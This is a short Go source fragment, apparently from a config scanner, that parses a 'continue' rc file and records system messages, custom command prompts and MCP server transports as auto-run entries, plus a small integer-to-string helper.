// "experimental.modelContextProtocolServers[].transport" (servers).
func (p *parser) continueRC(data []byte) {
	root := p.root(data)
	if root == nil {
		return
	}
	if n := root.get("systemMessage"); n != nil {
		if v, ok := n.str(); ok && strings.TrimSpace(v) != "" {
			p.addRun(AutoRun{Event: "systemMessage", Type: "prompt", Command: v, Line: n.line()})
		}
	}
	for _, c := range root.get("customCommands").arr() {
		name, _ := c.get("name").str()
		if v, ok := c.get("prompt").str(); ok && strings.TrimSpace(v) != "" {
			p.addRun(AutoRun{Event: "customCommands", Matcher: name, Type: "prompt", Command: v, Line: c.get("prompt").line()})
		}
	}
	for i, s := range root.get("experimental").get("modelContextProtocolServers").arr() {
		tr := s.get("transport")
		if tr.obj() == nil {
			continue
		}
		name, _ := s.get("name").str()
		if name == "" {
			name = "server " + itoa(i+1)
		}
		p.server(name, tr)
	}
}

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b [20]byte
	n := len(b)
	for ; i > 0; i /= 10 {
		n--
		b[n] = byte('0' + i%10)
	}
	return string(b[n:])
}
